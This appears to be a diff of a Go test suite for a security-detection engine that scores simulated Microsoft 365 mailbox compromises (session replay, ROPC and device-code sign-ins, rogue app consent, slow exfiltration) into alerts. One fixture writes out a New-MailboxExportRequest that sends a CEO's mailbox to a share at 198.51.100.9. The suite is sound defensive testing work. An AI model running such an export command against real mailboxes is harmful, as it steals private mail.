@@ -5,13 +5,13 @@ import (
 	"cmp"
 	"fmt"
 	"math/rand/v2"
+	"redshank/analytics/alert"
+	"redshank/analytics/event"
+	"redshank/analytics/policy"
 	"slices"
 	"strings"
 	"testing"
 	"time"
-
-	"redshank/analytics/event"
-	"redshank/analytics/policy"
 )
 
 const (
@@ -73,7 +73,7 @@ func (s *scene) lives(user string, days int) *scene {
 }
 
 // told sums an incident up, as far as no order may change it.
-func told(a *Alert) string {
+func told(a *alert.Alert) string {
 	codes := make([]string, 0, len(a.Signals))
 	for _, s := range a.Signals {
 		codes = append(codes, s.Code)
@@ -83,7 +83,7 @@ func told(a *Alert) string {
 		strings.Join(slices.Compact(codes), " "), a.Source, a.Counts.Mailboxes, a.Counts.Items)
 }
 
-func tellings(all map[string]*Alert) string {
+func tellings(all map[string]*alert.Alert) string {
 	var list []string
 	for _, a := range all {
 		list = append(list, told(a))
@@ -95,7 +95,7 @@ func tellings(all map[string]*Alert) string {
 // orders plays a scene as written, with the halves of the attack exchanged,
 // backwards, up to twelve hours late, and doubled. All must tell the same,
 // which is returned.
-func orders(t *testing.T, build func(s *scene)) map[string]*Alert {
+func orders(t *testing.T, build func(s *scene)) map[string]*alert.Alert {
 	t.Helper()
 	fresh := func() *scene {
 		s := newScene(t)
@@ -136,7 +136,7 @@ func exchanged(try func(string, func(*scene)), attack func(*scene) []act) {
 }
 
 // only is the one incident of AN0131, with the signals that it must have.
-func only(t *testing.T, all map[string]*Alert, class string, severity Severity, codes ...string) *Alert {
+func only(t *testing.T, all map[string]*alert.Alert, class string, severity alert.Severity, codes ...string) *alert.Alert {
 	t.Helper()
 	got := byRule(all, "AN0131")
 	if len(got) != 1 {
@@ -145,7 +145,7 @@ func only(t *testing.T, all map[string]*Alert, class string, severity Severity, 
 	a := got[0]
 	check(t, a, class, severity)
 	for _, code := range codes {
-		if !slices.ContainsFunc(a.Signals, func(s Signal) bool { return s.Code == code }) {
+		if !slices.ContainsFunc(a.Signals, func(s alert.Signal) bool { return s.Code == code }) {
 			t.Errorf("no signal %s in %s", code, told(a))
 		}
 	}
@@ -158,11 +158,11 @@ var attacks = []struct {
 	name     string
 	play     func(s *scene)
 	class    string
-	severity Severity
-	signals  []string // whatever is known of the account
-	ripe     []string // more with a ripe baseline
-	needs    bool     // a ripe baseline
-	unripe   Severity // where it differs
+	severity alert.Severity
+	signals  []string       // whatever is known of the account
+	ripe     []string       // more with a ripe baseline
+	needs    bool           // a ripe baseline
+	unripe   alert.Severity // where it differs
 }{
 	{
 		name: "session id replayed from another network, then Graph reads with python-requests",
@@ -174,7 +174,7 @@ var attacks = []struct {
 					session: "sess-1", source: event.Graph, service: event.GraphService, operation: "GET /me/messages", items: 10})
 			}
 		},
-		class: classReplay, severity: High,
+		class: classReplay, severity: alert.High,
 		signals: []string{"session.two_networks", "access.scripting_agent"},
 		ripe:    []string{"signin.new_network", "signin.new_country"},
 	},
@@ -191,7 +191,7 @@ var attacks = []struct {
 					source: event.IIS, service: event.EWSService, operation: op})
 			}
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"signin.ropc", "signin.scripting_agent", "access.scripting_agent", "access.regular"},
 		ripe:    []string{"signin.new_network", "signin.new_agent_family"},
 	},
@@ -203,7 +203,7 @@ var attacks = []struct {
 				s.reads(act{at: 9*time.Hour + time.Duration(10+n)*time.Minute, ip: thief, user: alice, app: rogueID, client: "Client=REST;;", access: event.Sync, items: 1})
 			}
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"signin.device_code", "access.foreign_app", "access.sync"},
 		ripe:    []string{"signin.new_app", "access.new_app", "signin.new_network"},
 	},
@@ -216,7 +216,7 @@ var attacks = []struct {
 			}
 			s.reads(act{at: 9*time.Hour + 26*time.Minute, ip: thief, user: alice, app: rogueID, client: "Client=REST;;", items: 3})
 		},
-		class: classApp, severity: Critical,
+		class: classApp, severity: alert.Critical,
 		signals: []string{"consent.mail", "access.many_mailboxes"},
 	},
 	{
@@ -229,7 +229,7 @@ var attacks = []struct {
 					host: "srv01.contoso.com", client: `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, target: "outlook.office365.com"})
 			}
 		},
-		class: classTool, severity: High,
+		class: classTool, severity: alert.High,
 		signals: []string{"script.tool", "network.mail_host"},
 	},
 	{
@@ -240,10 +240,10 @@ var attacks = []struct {
 				s.reads(act{at: 2*time.Hour + time.Duration(n+1)*2*time.Second, ip: thief, user: alice, source: event.IIS, service: event.EWSService, operation: "GetItem"})
 			}
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"access.no_agent", "access.regular", "access.item_by_item"},
 		ripe:    []string{"signin.new_network", "signin.new_hour"},
-		unripe:  Medium, // the access half alone
+		unripe:  alert.Medium, // the access half alone
 	},
 	{
 		name: "slow exfiltration, 30 messages an hour for two days, with a stolen token",
@@ -254,7 +254,7 @@ var attacks = []struct {
 					source: event.Graph, service: event.GraphService, operation: "GET /me/messages/{id}", items: 1})
 			}
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"access.volume"},
 		ripe:    []string{"signin.new_network", "signin.new_country"},
 		needs:   true,
@@ -268,7 +268,7 @@ var attacks = []struct {
 					source: event.Graph, service: event.GraphService, operation: "GET /me/messages/{id}", items: 1})
 			}
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"signin.ropc", "signin.scripting_agent", "access.scripting_agent", "access.regular"},
 		ripe:    []string{"access.volume"},
 	},
@@ -285,7 +285,7 @@ var attacks = []struct {
 			s.signsIn(act{at: 8*time.Hour + 55*time.Minute, ip: thief, user: alice, userID: "0b1ec700-0000-4000-8000-000000000001", token: "tok-9",
 				agent: python, app: officeID, protocol: event.ROPC})
 		},
-		class: classScripted, severity: High,
+		class: classScripted, severity: alert.High,
 		signals: []string{"signin.ropc", "access.scripting_agent"},
 	},
 }
@@ -330,7 +330,7 @@ func TestExportAfterAStuffedSignIn(t *testing.T) {
 		s.add(act{at: 9*time.Hour + 12*time.Minute, user: alice, source: event.WinEvent, service: event.PowerShell, action: event.MailboxChange, outcome: event.Success,
 			operation: "New-MailboxExportRequest", mailbox: "ceo@contoso.com", detail: `-Mailbox "ceo@contoso.com" -FilePath "\\198.51.100.9\x\c.pst"`, host: "ex01"})
 	})
-	a := only(t, all, classExport, Critical, "signin.from_attack", "mail.export", "signin.new_network")
+	a := only(t, all, classExport, alert.Critical, "signin.from_attack", "mail.export", "signin.new_network")
 	t.Log(a.Message)
 	if got := byRule(all, "AN1269"); len(got) != 1 || len(got[0].Valid) != 1 {
 		t.Errorf("AN1269: %s", tellings(all))
@@ -343,7 +343,7 @@ func TestSynchronisingSaysNothing(t *testing.T) {
 	random := rand.New(rand.NewPCG(1, 2))
 	pick := func(of ...string) string { return of[random.IntN(len(of))] }
 	e := newTracked(t, policy.Default(), nil)
-	d := e.collection.dossier(aUser, []byte(person(1)))
+	d := e.collection.profile(aUser, []byte(person(1)))
 	skipped := 0
 	for n := range 20_000 {
 		a := act{at: minutes(n), ip: pick(office, attacker), user: person(1), agent: pick("Apple-iPhone15C2/2107.102", "Mozilla/5.0", "python-requests/2.31", ""),
